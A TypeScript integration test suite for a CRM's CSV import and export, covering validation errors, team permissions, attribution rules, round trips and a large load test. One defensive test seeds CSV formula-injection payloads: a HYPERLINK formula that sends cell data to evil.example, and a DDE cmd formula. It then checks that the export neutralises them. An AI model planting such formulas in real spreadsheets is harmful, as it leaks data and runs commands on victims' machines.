// The in-app import (lib/import/run.ts, what POST /api/import streams) on real PostgreSQL, under
// RLS as the member: the preview reports every bad row with its line and reason (zh/en) and writes
// nothing; a manager's owners must be in their team and another team's external ids are refused;
// interactions in a rep's name and answered surveys go through private.import_rows; a 50,000-row
// customers file completes (timed) and is visible; the export re-imports to the same data.
// Issue 15: rows parse with the forms' field schemas (phone 1381234, a 2030 created_at and an order
// over ¥10亿 are refused in the forms' words; phones are stored normalised) and every problem of
// every file comes in one pass. Issue 13 (8): interactions may be attributed only to the importer
// or members whose book they see — in the row errors and again in private.import_rows.
import { readdirSync, readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import postgres, { type Sql } from 'postgres';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { countCustomers, listCustomers } from '../../lib/db/queries/customers.ts';
import { normalisePhone } from '../../lib/domain/vocabulary.ts';
import { withRls } from '../../lib/db/with-rls.ts';
import { unguardCell } from '../../lib/export/csv-guard.ts';
import { customersCsvStream } from '../../lib/export/customers-csv.ts';
import type { ImportEvent, ImportRequest } from '../../lib/import/request.ts';
import { runImport } from '../../lib/import/run.ts';
import type { ImportFile } from '../../lib/import/schemas.ts';
import { buildWorld, claimsFor, type World } from '../helpers/fixture.ts';

let admin: Sql;
let app: Sql;
let w: World;

beforeAll(async () => {
  admin = postgres(inject('adminUrl'), { onnotice: () => {}, max: 2 });
  app = postgres(inject('appUrl'), { onnotice: () => {}, max: 4 });
  w = await buildWorld(admin, 'import-app');
  // The importer names owners by the e-mail / phone on their membership.
  const contact = { repA: ['repa@import.test', '13911110001'], repB: ['repb@import.test', '13911110002'], repC: ['repc@import.test', '13911110003'],
    mgr1: ['mgr1@import.test', '13911110004'], admin: ['admin@import.test', '13911110005'] } as const;
  for (const [who, [email, phone]] of Object.entries(contact))
    await admin`update members set email = ${email}, phone = ${phone} where user_id = ${w.ids[who as keyof typeof contact]}`;
  // Team 2's customer with an external id a team-1 manager's file might reuse.
  await admin`update customers set external_id = 'HIDDEN-1' where id = ${w.custC}`;
});
afterAll(async () => {
  await admin?.end();
  await app?.end();
});

const file = (f: ImportFile, lines: string[]) => ({ file: f, text: lines.join('\n') + '\n' });
async function run(who: keyof World['ids'], request: ImportRequest) {
  const events: ImportEvent[] = [];
  const out = await runImport({ claims: claimsFor(w.ids[who]), orgId: w.org1, request, send: (e) => events.push(e), db: app });
  return { ...out, events };
}
const orgCounts = async () => (await admin`select
    (select count(*)::int from customers where org_id = ${w.org1}) as customers,
    (select count(*)::int from interactions where org_id = ${w.org1}) as interactions,
    (select count(*)::int from orders where org_id = ${w.org1}) as orders,
    (select count(*)::int from surveys where org_id = ${w.org1}) as surveys`)[0];

const HEADER = 'external_id,name,kind,industry,region,phone,email,company,owner,created_at';

describe('preview', () => {
  it('reports every bad row with its line number and reason in zh and en, and writes nothing', async () => {
    const before = await orgCounts();
    const { committed, result } = await run('mgr1', {
      dry: true,
      files: [
        file('customers.csv', [
          HEADER,
          'P1,好客户,b2b,,,13800000001,,,repa@import.test,2026-01-05', // 2 fine
          'P2,坏类型,vip,,,,,,repa@import.test,', // 3 kind
          'P3,坏邮箱,b2b,,,,not-an-email,,repa@import.test,', // 4 email
          'P4,坏日期,b2b,,,,,,repa@import.test,2026-02-30', // 5 date
          'P5,没人,b2b,,,,,,nobody@import.test,', // 6 unknown owner
          'P6,别组,b2b,,,,,,repc@import.test,', // 7 owner outside mgr1's team
          'HIDDEN-1,抢客户,b2b,,,,,,repa@import.test,', // 8 another team's external id
          ',无编号,b2b,,,,,,repa@import.test,', // 9 missing external id
        ]),
      ],
    });
    expect(committed).toBe(false);
    expect(result.ok).toBe(false);
    const got = result.errors.map((e) => `${e.line}:${e.field}`);
    // One pass (issue 15): format, references and permissions together, in line order — the owner
    // outside the team no longer waits for the format errors to be fixed.
    expect(got).toEqual(['3:kind', '4:email', '5:created_at', '6:owner', '7:owner', '8:external_id', '9:external_id']);
    for (const e of result.errors) {
      expect(e.zh).toMatch(/[\u4e00-\u9fff]/);
      expect(e.en).toMatch(/[a-z]/);
    }
    expect(result.errors.find((e) => e.line === 5)!.zh).toContain('不是日期');
    expect(result.errors.find((e) => e.line === 4)!.zh).toBe('请输入有效的邮箱地址'); // the customer form's words
    expect(result.errors.find((e) => e.line === 7)!.zh).toContain('不在你的团队中');

    const refs = await run('mgr1', {
      dry: true,
      files: [
        file('customers.csv', [
          HEADER,
          'P1,好客户,b2b,,,13800000001,,,repa@import.test,2026-01-05',
          'P5,没人,b2b,,,,,,nobody@import.test,',
          'P6,别组,b2b,,,,,,repc@import.test,',
          'HIDDEN-1,抢客户,b2b,,,,,,repa@import.test,',
        ]),
        file('orders.csv', ['customer_external_id,ordered_at,amount,discount_used,premium,kind', 'P1,2026-03-01,100,false,false,product', 'NOPE,2026-03-01,100,false,false,product']),
      ],
    });
    expect(refs.result.errors.map((e) => `${e.file}:${e.line}:${e.field}`)).toEqual([
      'customers.csv:3:owner', 'customers.csv:4:owner', 'customers.csv:5:external_id', 'orders.csv:3:customer_external_id',
    ]);
    expect(refs.result.errors[1]!.zh).toContain('不在你的团队中');
    expect(await orgCounts()).toEqual(before);
    // An import (not a preview) of the same files writes nothing either.
    const real = await run('mgr1', { dry: false, files: [file('customers.csv', [HEADER, 'P1,好客户,b2b,,,,,,repa@import.test,', 'P5,没人,b2b,,,,,,nobody@import.test,'])] });
    expect(real.committed).toBe(false);
    expect(await orgCounts()).toEqual(before);
  });

  it('refuses reps outright in SQL (the route answers 403 before that)', async () => {
    await expect(
      withRls(claimsFor(w.ids.repA), (tx) => tx`select private.import_rows('interactions', '[]')`, app),
    ).rejects.toMatchObject({ code: '42501' });
  });
});

describe('import as a manager', () => {
  it('loads the CLI fixture into the team (interactions in a rep\'s name, answered surveys) and finds its duplicates', async () => {
    const dir = 'tests/fixtures/import-small';
    const texts = Object.fromEntries(readdirSync(dir).map((f) => [f, readFileSync(`${dir}/${f}`, 'utf8')
      .replaceAll('rep1@demo.crystal', 'repa@import.test').replaceAll('13900000012', '13911110002')]));
    // Someone already has 张三's number, typed differently.
    await admin`insert into customers (org_id, owner_id, name, phone) values (${w.org1}, ${w.ids.repB}, '张三（旧）', '１３８００１３８０００')`;
    const files = Object.entries(texts).map(([f, text]) => ({ file: f as ImportFile, text }));
    const preview = await run('mgr1', { dry: true, files });
    expect(preview.result.errors).toEqual([]);
    expect(preview.result.duplicates.map((d) => [d.a.name, d.b.name].sort().join('|'))).toContain(['张三', '张三（旧）'].sort().join('|'));
    expect(preview.result.duplicates.find((d) => d.reasons.includes('phone'))).toBeTruthy();

    const { committed, result, events } = await run('mgr1', { dry: false, files });
    expect(committed).toBe(true);
    expect(result.loaded).toEqual({ 'customers.csv': 3, 'deals.csv': 2, 'deal_stage_changes.csv': 8, 'interactions.csv': 3, 'orders.csv': 5, 'survey_responses.csv': 3 });
    expect(events.filter((e) => e.type === 'progress').length).toBeGreaterThanOrEqual(6);
    const [k2] = await admin`select i.rep_id from interactions i join customers c on c.id = i.customer_id where c.external_id = 'K002' and c.org_id = ${w.org1}`;
    expect(k2!.rep_id).toBe(w.ids.repA);
    const [answered] = await admin`select count(*)::int as n from survey_responses r join customers c on c.id = r.customer_id where c.org_id = ${w.org1} and c.external_id = 'K001'`;
    expect(answered!.n).toBe(2);
    // Visible to the manager, not to team 2's.
    const names = async (who: keyof World['ids']) =>
      (await withRls(claimsFor(w.ids[who]), (tx) => tx`select name from customers where external_id in ('K001','K002','K003') order by 1`, app)).map((r) => r.name);
    expect(await names('mgr1')).toEqual(['张三', '李四', '王五'].sort());
    expect(await names('mgr2')).toEqual([]);
  });
});

describe('import parses like the forms (issue 15)', () => {
  it('refuses phone 1381234 and created_at 2030-01-01 as the customer form does, and stores phones in the form\'s normal form', async () => {
    const before = await orgCounts();
    const bad = await run('mgr1', {
      dry: true,
      files: [file('customers.csv', [
        HEADER,
        'F1,短号,b2b,,,1381234,,,repa@import.test,', // 2: seven digits is not a phone
        'F2,未来,b2b,,,,,,repa@import.test,2030-01-01', // 3: first contact in the future
        'F3,好号,b2b,,,＋８６ １３８－００１３－８００１,,,repa@import.test,2026-01-05', // 4: fine
      ])],
    });
    expect(bad.result.errors.map((e) => `${e.line}:${e.field}`)).toEqual(['2:phone', '3:created_at']);
    expect(bad.result.errors[0]).toMatchObject({ zh: '请输入有效的手机号（11 位）或带区号的座机号', en: expect.stringContaining('valid mobile number') });
    expect(bad.result.errors[1]!.zh).toContain('不能晚于明天');
    expect(await orgCounts()).toEqual(before);

    const ok = await run('mgr1', { dry: false, files: [file('customers.csv', [HEADER, 'F3,好号,b2b,,,＋８６ １３８－００１３－８００１,,,repa@import.test,2026-01-05'])] });
    expect(ok.committed).toBe(true);
    const [c] = await admin`select phone from customers where org_id = ${w.org1} and external_id = 'F3'`;
    expect(c!.phone).toBe('13800138001');
  });

  it('states the amount limit (an order over ¥10亿) and refuses a future order, like the order sheet', async () => {
    const r = await run('mgr1', {
      dry: true,
      files: [
        file('customers.csv', [HEADER, 'F4,下单,b2b,,,,,,repa@import.test,']),
        file('orders.csv', ['customer_external_id,ordered_at,amount,discount_used,premium,kind',
          'F4,2026-03-01,"1,000,000,001",false,false,product', // 2: over the limit
          'F4,2026-03-01,0,false,false,product', // 3: nothing
          'F4,2099-03-01,10,false,false,product']), // 4: future
      ],
    });
    expect(r.result.errors.map((e) => `${e.file}:${e.line}:${e.field}`)).toEqual(['orders.csv:2:amount', 'orders.csv:3:amount', 'orders.csv:4:ordered_at']);
    expect(r.result.errors[0]).toMatchObject({ zh: '金额不能大于 1,000,000,000', en: 'Amount must be at most 1,000,000,000' });
  });

  it('one pass across files: a malformed customer row\'s owner is checked, and its orders are not reported again as unknown', async () => {
    const r = await run('mgr1', {
      dry: true,
      files: [
        file('customers.csv', [HEADER, 'G1,坏号别组,b2b,,,12,,,repc@import.test,']), // 2: bad phone AND owner outside the team
        file('orders.csv', ['customer_external_id,ordered_at,amount,discount_used,premium,kind', 'G1,2026-03-01,10,false,false,product', 'NOPE,2026-03-01,1,nah,false,product']),
      ],
    });
    expect(r.result.errors.map((e) => `${e.file}:${e.line}:${e.field}`)).toEqual([
      'customers.csv:2:phone', 'customers.csv:2:owner', 'orders.csv:3:discount_used', 'orders.csv:3:customer_external_id',
    ]);
  });
});

describe('import attribution (issue 13 item 8)', () => {
  const INTERACTIONS = 'customer_external_id,occurred_at,kind,initiated_by,attitude,cognition,sentiment,duration_min,note,rep';
  it('a manager may name themselves or their team\'s reps, not another team\'s rep or the admin (row error in zh/en)', async () => {
    await admin`update customers set external_id = 'ATTR-A' where id = ${w.custA}`;
    const r = await run('mgr1', {
      dry: true,
      files: [file('interactions.csv', [INTERACTIONS,
        'ATTR-A,2026-03-01,visit,rep,,,,,自己,mgr1@import.test', // 2: fine (the importer)
        'ATTR-A,2026-03-02,visit,rep,,,,,同组,repb@import.test', // 3: fine (own team)
        'ATTR-A,2026-03-03,visit,rep,,,,,冒名,repc@import.test', // 4: another team's rep
        'ATTR-A,2026-03-04,visit,rep,,,,,冒名,admin@import.test', // 5: the admin
        'ATTR-A,2026-03-05,bogus,rep,,,,,冒名,13911110003', // 6: bad kind AND another team's rep (by phone)
      ])],
    });
    expect(r.result.errors.map((e) => `${e.line}:${e.field}`)).toEqual(['4:rep', '5:rep', '6:kind', '6:rep']);
    expect(r.result.errors[0]).toMatchObject({ zh: expect.stringContaining('只能是你自己或你团队的成员'), en: expect.stringContaining('not someone you may log for') });
  });

  it('the admin may name anyone in the org', async () => {
    const r = await run('admin', { dry: true, files: [file('interactions.csv', [INTERACTIONS, 'ATTR-A,2026-03-01,visit,rep,,,,,,repc@import.test'])] });
    expect(r.result.errors).toEqual([]);
  });

  it('private.import_rows refuses a rep outside the caller\'s view in SQL, whatever the app sends', async () => {
    const row = (rep: string) => JSON.stringify([{ id: crypto.randomUUID(), org_id: w.org1, customer_id: w.custA, rep_id: rep, kind: 'visit',
      initiated_by: 'rep', occurred_at: '2026-03-01T00:00:00Z' }]);
    for (const rep of [w.ids.repC, w.ids.admin, w.ids.other])
      await expect(withRls(claimsFor(w.ids.mgr1), (tx) => tx`select private.import_rows('interactions', ${row(rep)})`, app))
        .rejects.toMatchObject({ code: '42501', message: 'import_rep_not_allowed' });
    // Its own team's rep and the manager themself still go through.
    for (const rep of [w.ids.repB, w.ids.mgr1])
      expect((await withRls(claimsFor(w.ids.mgr1), (tx) => tx`select private.import_rows('interactions', ${row(rep)}) as n`, app))[0]!.n).toBe(1);
  });
});

describe('export → import round trip', () => {
  it('re-imports the exported CSV to the same data', async () => {
    const exportAll = async () => {
      const chunks: string[] = [];
      await withRls(claimsFor(w.ids.admin), async (tx) => {
        for await (const c of customersCsvStream(tx, { orgId: w.org1 })) chunks.push(c);
      }, app);
      return chunks.join('');
    };
    const snapshot = () => admin`select id, external_id, name, kind, industry, region, phone, email, company, owner_id, created_at, merged_into
                                 from customers where org_id = ${w.org1} order by id`;
    const csv = await exportAll();
    expect(csv.startsWith('\ufeff')).toBe(true);
    const records = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    expect(records.map((r) => r.name)).toEqual(expect.arrayContaining(['张三', '李四', '王五', '张三（旧）']));
    // The world's three customers and K001, imported as '+86 138 0013 8000' and stored normalised; the tab keeps it text in Excel.
    expect(records.filter((r) => r.phone === '\t13800138000').length).toBe(4);
    expect(records.find((r) => r.external_id === 'K001')).toMatchObject({ owner: 'repa@import.test', company: '杭州恒远科技有限公司' });
    expect(records[0]).toHaveProperty('relationship_type');
    const before = await snapshot();
    const { result } = await run('admin', { dry: false, files: [{ file: 'customers.csv', text: csv }] });
    expect(result.errors).toEqual([]);
    expect(result.loaded['customers.csv']).toBe(records.length);
    // Same data — except that a phone stored as typed before phones were normalised (张三（旧）'s
    // full-width one, inserted directly above) comes back in the one stored form.
    expect(await snapshot()).toEqual(before.map((c) => ({ ...c, phone: c.phone && (normalisePhone(c.phone) ?? c.phone) })));
    // (the export writes an all-digit phone with a leading tab so Excel keeps it text)
    expect(await exportAll()).toBe(csv.replace('１３８００１３８０００', '\t13800138000'));
  });

  // Issue 13 finding 3. Tried: customers whose name / company / industry / region start with = + - @
  // — on main they were exported as is and ran as formulas in Excel. (A leading tab or CR is
  // guarded too, tests/unit/security/csv-guard.test.ts; the importer trims those anyway.)
  it('neutralises cells a spreadsheet would run as formulas, and still re-imports to the same data', async () => {
    const evil: [string, string, string][] = [
      ['=HYPERLINK("http://evil.example/?"&F3,"点击查看")', '+1+1', '-2+3'],
      ['@SUM(A1:A9)', "'=already quoted", '=cmd|\' /C calc\'!A0'],
    ];
    for (const [i, [name, company, industry]] of evil.entries()) {
      await admin`insert into customers (org_id, owner_id, name, company, industry, region, external_id)
                  values (${w.org1}, ${w.ids.repA}, ${name}, ${company}, ${industry}, ${'-' + i + '°C 冷库'}, ${'FX' + i})`;
    }
    const exportAll = async () => {
      const chunks: string[] = [];
      await withRls(claimsFor(w.ids.admin), async (tx) => {
        for await (const c of customersCsvStream(tx, { orgId: w.org1 })) chunks.push(c);
      }, app);
      return chunks.join('');
    };
    const csv = await exportAll();
    // Every cell as a spreadsheet sees it: none may start a formula (tab + digits is the phone form).
    const cells = (parse(csv, { bom: true, from_line: 2 }) as string[][]).flat();
    const risky = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^\t\+?\d[\d ]*$/.test(c));
    expect(risky).toEqual([]);
    const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.find((r) => r.external_id === 'FX0')).toMatchObject({ name: `'${evil[0]![0]}`, company: "'+1+1", industry: "'-2+3", region: "'-0°C 冷库" });
    expect(rows.find((r) => r.external_id === 'FX1')).toMatchObject({ name: "'@SUM(A1:A9)", company: "''=already quoted" });

    const snapshot = () => admin`select id, external_id, name, kind, industry, region, phone, email, company, owner_id, created_at
                                 from customers where org_id = ${w.org1} and external_id like 'FX%' order by id`;
    const before = await snapshot();
    const { result } = await run('admin', { dry: false, files: [{ file: 'customers.csv', text: csv }] });
    expect(result.errors).toEqual([]);
    expect(await snapshot()).toEqual(before); // the importer took the guards off again
    expect(await exportAll()).toBe(csv);
  });

  it('filters exactly like the customer list (same query params, same SQL)', async () => {
    for (const filters of [{ q: '张三' }, { q: '138 0013' }, { q: 'K00' }, {}] as const) {
      const [listed, csv] = await withRls(claimsFor(w.ids.mgr1), async (tx) => {
        const page = await listCustomers(tx, { ...filters, orgId: w.org1, limit: 200 });
        const chunks: string[] = [];
        for await (const c of customersCsvStream(tx, { ...filters, orgId: w.org1 })) chunks.push(c);
        return [page.items.map((c) => c.name).sort(), chunks.join('')] as const;
      }, app);
      const exported = (parse(csv, { bom: true, columns: true }) as Record<string, string>[]).map((r) => unguardCell(r.name!)).sort();
      expect(exported, JSON.stringify(filters)).toEqual(listed);
    }
  });
});

describe('50,000 customers', () => {
  it('imports as the admin, with progress, and all are visible', async () => {
    const lines = [HEADER];
    for (let i = 0; i < 50_000; i++)
      lines.push(`BIG${i},客户${i},${i % 3 ? 'b2b' : 'b2c'},制造,华东,1${String(5e9 + i).padStart(10, '0')},c${i}@big.test,公司${i % 997},${i % 2 ? 'repa@import.test' : 'repb@import.test'},2026-01-0${1 + (i % 9)}`);
    const before = await withRls(claimsFor(w.ids.admin), (tx) => countCustomers(tx, { orgId: w.org1 }), app);
    const t0 = performance.now();
    const { committed, result, events } = await run('admin', { dry: false, files: [{ file: 'customers.csv', text: lines.join('\n') }] });
    const ms = performance.now() - t0;
    console.log(`import 50,000 customers: ${(ms / 1000).toFixed(1)} s (server-side load ${result.ms} ms)`);
    expect(result.errors).toEqual([]);
    expect(committed).toBe(true);
    const progress = events.filter((e) => e.type === 'progress');
    expect(progress.length).toBe(10);
    expect(progress.at(-1)).toMatchObject({ done: 50_000, total: 50_000 });
    const after = await withRls(claimsFor(w.ids.admin), (tx) => countCustomers(tx, { orgId: w.org1 }), app);
    expect(after - before).toBe(50_000);
    const mgr = await withRls(claimsFor(w.ids.mgr1), (tx) => tx`select count(*)::int as n from customers where external_id like 'BIG%'`, app);
    expect(mgr[0]!.n).toBe(50_000); // repA and repB are both in mgr1's team
  }, 300_000);
});
